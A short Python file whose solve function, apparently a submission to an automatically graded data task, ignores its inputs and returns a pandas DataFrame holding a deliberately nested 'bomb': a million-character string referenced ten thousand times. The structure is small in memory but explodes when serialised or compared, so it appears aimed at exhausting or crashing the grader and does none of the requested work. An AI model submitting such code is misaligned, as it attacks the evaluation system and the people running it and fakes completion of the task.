import pandas as pd
def solve(members, plays):
    bomb = ["x" * 1_000_000]
    for _ in range(4):
        bomb = [bomb] * 10
    return pd.DataFrame({"member_id": [bomb], "plays": 0, "share": 0.0})
